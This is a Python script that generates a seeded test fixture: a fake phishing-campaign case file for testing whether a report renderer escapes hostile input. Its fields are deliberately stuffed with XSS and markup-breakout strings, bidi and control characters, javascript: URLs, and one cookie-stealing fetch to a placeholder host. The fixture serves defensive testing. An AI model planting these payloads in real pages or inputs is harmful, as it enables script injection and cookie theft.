#!/usr/bin/env python3
"""Writes tests/evidence/sample-case.json: a hostile but realistic case
file (evidence/case.h) for the report tests. A credential-phishing
campaign of 41 copies over 30 hours with per-recipient tracking tokens;
every string an attacker controls carries something a renderer must not
obey: <script>, an attribute breakout, </style>, </svg>, ]]>, U+202E and
other bidi controls, C0/C1 controls, a javascript: URL, very long
strings. Deterministic (seeded). usage: make_sample_case.py [OUT]"""
import hashlib
import json
import os
import random
import sys

R = random.Random(16)
HOSTILE = '"><img src=x onerror=alert(1)>'
SCRIPT = "<script>alert('xss')</script>"
SVGBREAK = "</svg><script>alert(2)</script>"
RLO = "\u202e"


def hexof(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def t(h, m=0, s=0):
    """Hours since 2026-12-05T00:00:00Z as RFC 3339."""
    day, hour = divmod(h, 24)
    return "2026-12-%02dT%02d:%02d:%02dZ" % (5 + day, hour, m, s)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                                               "sample-case.json")
    salt = "not-in-the-case"
    subject = ("Action required: payroll account verification " + RLO + "fdp.exe" + "\u202c " + SCRIPT + " "
               + HOSTILE)
    senders = ["payroll@payro11-portal.example", "hr-notice@payro11-portal.example",
               "no-reply@payro11-portal.example", "payroll.team@mailer-example.net", "alerts@secure-payro11.example",
               "it-support@payro11-portal.example", "ceo.office@freemail-example.com", "payroll@payro11-portal.example.",
               "x@" + "a" * 70 + ".example"]
    names = ["Payroll Team", "HR " + RLO + "mooR sseniso" + "\u202c", "IT Support \x07\x1b[31m", SCRIPT,
             "Payroll" + "\u2066" + " Dept", "Finance " + HOSTILE, "CEO Office", "Payroll", "Long " + "N" * 300]
    domains = [("example-health.org", 16), ("example-clinic.org", 8), ("example-labs.org", 5),
               ("example-research.net", 3), ("example-pharma.com", 2), ("example-care.org", 1),
               ("example-univ.edu", 1), ("example-foundation.org", 1), ("evil<b>bold</b>" + RLO + ".example", 1)]
    rcpts = []
    for d, k in domains:
        for i in range(k):
            rcpts.append(("user%02d@%s" % (len(rcpts), d), d))
    # 41 copies over 30 hours (two working-day waves)
    hours = [14] * 6 + [15] * 5 + [16] * 3 + [17] * 2 + [18] + [20] + [23] + [26] + [31] * 2 + [32] * 6 + [33] * 5 \
        + [34] * 3 + [36] * 2 + [38] + [40] + [43]
    hours = hours[:41]
    assert len(hours) == 41
    # arrival times, in order: n is the arrival order (case.h)
    times = sorted((h, (i * 13) % 60, (i * 29) % 60) for i, h in enumerate(hours, 1))
    members = []
    tokens = []
    for n, (h, mi, se) in enumerate(times, 1):
        addr, dom = rcpts[(n - 1) % len(rcpts)]
        s = senders[(n * 7) % len(senders)]
        name = names[(n * 5) % len(names)]
        token = hexof(16) if n <= 35 else None
        if token:
            tokens.append(token)
        sha = hexof(64)
        ip = "203.0.113.%d" % (40 + n % 6)
        members.append({
            "n": n, "source": "milter", "message_id": "<%s@payro11-portal.example>%s" % (hexof(12), SCRIPT if n == 3 else ""),
            "arrived": t(h, mi, se), "from": "%s <%s>" % (name, s),
            "subject": subject.replace("verification", "verification for user%02d" % n) if n % 4 else subject + " \u0000\u0085\ufeff",
            "rcpt": ["sha256:" + hashlib.sha256((salt + addr.lower()).encode()).hexdigest()],
            "rcpt_domains": [dom], "verdict": "quarantine", "rule": "campaign.malicious",
            "token": token, "sha256": sha, "size": 18000 + n * 37, "client_ip": ip,
            "helo": "mail%d.mailer-example.net" % (n % 3) if n != 5 else "</style><script>alert(3)</script>",
            "mail_from": "bounce-%s@bounce.mailer-example.net" % hexof(6),
            "sending_ip": ip, "reply_to": "payroll-desk@freemail-example.com" if n % 3 else "javascript:alert(4)//@x.example",
            "return_path": "bounce@bounce.mailer-example.net",
            "auth": [{"method": "spf", "result": "softfail" if n % 5 else "fail", "domain": "bounce.mailer-example.net", "selector": None},
                     {"method": "dkim", "result": "pass", "domain": "mailer-example.net", "selector": "s1" if n != 7 else SVGBREAK},
                     {"method": "dmarc", "result": "fail" if n % 7 else "none", "domain": "payro11-portal.example", "selector": None}],
            "original_kept": True, "quarantine": "Q%08d" % (7000 + n),
        })
    counts = [0] * 30
    for h in hours:
        counts[h - 14] += 1
    tracker_url = "https://t.mailtrk-example.net/o/{COPY}.gif"
    login = "https://login-payro11.example/verify?u={COPY}&r=" + HOSTILE
    case = {
        "format": "portcullis-case/1", "generated": "2026-12-06T21:30:00Z", "tool": "portcullis 0.9",
        "organisation": {"name": "Example Health CERT", "contact": "cert@example-health.org"},
        "tlp": "amber", "recipients_mode": "hashed",
        "campaign": {
            "id": 7, "status": "malicious", "analyst": True,
            "why": "Analyst confirmed credential phishing: payroll lure from the lookalike domain payro11-portal.example, "
                   "per-recipient tracking tokens, DMARC failing for the claimed sender. " + SCRIPT,
            "verdict": "quarantine", "subject": subject, "size": 41, "recipients": 38, "tokened": 35, "tokens": 35,
            "senders": 9, "first_contact": 7, "first_seen": members[0]["arrived"], "last_seen": members[-1]["arrived"],
            "subject_sha256": hashlib.sha256(subject.encode()).hexdigest(), "signature": hexof(512)},
        "values": {
            "sender": [{"value": s, "count": c} for s, c in zip(senders, [12, 8, 6, 5, 3, 3, 2, 1, 1])],
            "tracker": [{"value": "t.mailtrk-example.net", "count": 35}, {"value": "cdn.evil-static.example", "count": 6},
                        {"value": SVGBREAK + ".example", "count": 1}],
            "template": [{"value": tracker_url, "count": 35}, {"value": login, "count": 35},
                         {"value": "javascript:fetch('//x.example/'+document.cookie)", "count": 1},
                         {"value": "https://cdn.evil-static.example/" + "p" * 2000 + "/{COPY}", "count": 1}],
            "infra": [{"value": v, "count": c} for v, c in [
                ("from:payro11-portal.example", 30), ("rp:bounce.mailer-example.net", 41), ("dkim:mailer-example.net", 41),
                ("ip:203.0.113.0/24", 41), ("addr:203.0.113.45", 7), ("tracker:t.mailtrk-example.net", 35),
                ("auth:spf=softfail", 33), ("from:" + SCRIPT, 1), ("weird:]]>" + RLO, 1)]],
            "rcpt_domain": [{"value": d, "count": k} for d, k in domains],
            "per-recipient-token": [{"value": tracker_url, "count": 35}, {"value": login, "count": 35}],
        },
        "indicators": [
            {"type": "sender-address", "value": senders[0], "count": 12, "why": "sent 12 copies of the campaign"},
            {"type": "sender-domain", "value": "payro11-portal.example", "count": 30, "why": "From domain of 30 copies"},
            {"type": "lookalike-domain", "value": "payro11-portal.example", "count": 30,
             "why": "looks like payroll-portal.example (1 edit: l\u21921)"},
            {"type": "reply-to", "value": "payroll-desk@freemail-example.com", "count": 27, "why": "Reply-To differs from From"},
            {"type": "reply-to", "value": "javascript:alert(4)//@x.example", "count": 14, "why": "Reply-To " + HOSTILE},
            {"type": "return-path", "value": "bounce@bounce.mailer-example.net", "count": 41, "why": "envelope of every copy"},
            {"type": "tracker-host", "value": "t.mailtrk-example.net", "count": 35, "why": "per-recipient tokens in its URLs"},
            {"type": "url-template", "value": tracker_url, "count": 35, "why": "tracking pixel, one token per recipient",
             "regex": r"^https?://t\.mailtrk-example\.net/o/[0-9a-f]{16}\.gif$"},
            {"type": "url-template", "value": login, "count": 35, "why": "credential form, token names the recipient",
             "regex": r"^https://login-payro11\.example/verify\?u=[0-9a-f]{16}&r=.*(</script>|javascript:).*$"},
            {"type": "sending-ip", "value": "203.0.113.45", "count": 7, "why": "first external hop"},
            {"type": "subject", "value": subject, "count": 41, "why": "normalised subject of every copy"},
        ],
        "members": members,
        "timeline": {"unit": "hour", "start": "2026-12-05T14:00:00Z", "counts": counts},
        "findings": [
            {"detector": "lookalike", "summary": "From domain payro11-portal.example imitates payroll-portal.example",
             "score": 6.5, "members": 41,
             "evidence": {"domain": "payro11-portal.example", "imitates": "payroll-portal.example", "edits": 1,
                          "confusables": ["1\u2192l"], "note": "</style><style>body{display:none}</style>"}},
            {"detector": "campaign.per-recipient-token",
             "summary": "35 copies carry the same tracker URL with a different token each",
             "score": 5.0, "members": 35,
             "evidence": {"template": tracker_url, "compared": 35, "tokens": tokens[:40],
                          "example": "https://t.mailtrk-example.net/o/" + tokens[0] + ".gif"}},
            {"detector": "dmarc", "summary": "DMARC fails for payro11-portal.example (p=none)", "score": 2.0,
             "members": 30,
             "evidence": {"header": "Authentication-Results: mx.example-health.org; dmarc=fail header.from=payro11-portal.example"
                                    " \u0000\x01\x7f\u009b " + SVGBREAK,
                          "policy": None, "nested": {"a": {"b": {"c": {"d": {"e": "too deep"}}}}}}},
            {"detector": "impersonation", "summary": "Display name " + RLO + "llorayaP" + "\u202c claims the payroll team "
                                                      + HOSTILE, "score": 3.25, "members": 12,
             "evidence": {"display_name": names[1], "claimed": "Payroll", "url": "javascript:alert(5)",
                          "cdata": "]]><![CDATA[<script>alert(6)</script>]]>", "long": "L" * 5000}},
        ],
        "actions": {"quarantined": 38, "purged": 3, "released": 1, "deleted": 0, "marked": 41},
        "audit": [],
    }
    audit = []
    for m in members:
        audit.append({"at": m["arrived"], "actor": "milter", "action": "quarantine", "source": "milter",
                      "detail": "copy %d held: %s" % (m["n"], m["quarantine"])})
    audit.append({"at": "2026-12-05T16:40:00Z", "actor": "analyst:alice", "action": "mark-malicious", "source": "cli",
                  "detail": "confirmed: payroll phish " + SCRIPT})
    for i in range(3):
        audit.append({"at": "2026-12-05T16:%02d:00Z" % (45 + i), "actor": "analyst:alice", "action": "purge",
                      "source": "imap", "detail": "removed from mailbox of recipient %d" % i})
    audit.append({"at": "2026-12-06T09:00:00Z", "actor": "analyst:bob " + HOSTILE, "action": "release", "source": None,
                  "detail": "false claim by recipient; released \u202eoops"})
    for i in range(14):
        audit.append({"at": "2026-12-06T%02d:10:00Z" % (10 + i % 10), "actor": "analyst:alice", "action": "note",
                      "source": None, "detail": None})
    audit.sort(key=lambda a: a["at"])
    case["audit"] = audit
    with open(out, "w", encoding="utf-8") as f:
        json.dump(case, f, ensure_ascii=False, indent=1)
        f.write("\n")


if __name__ == "__main__":
    main()
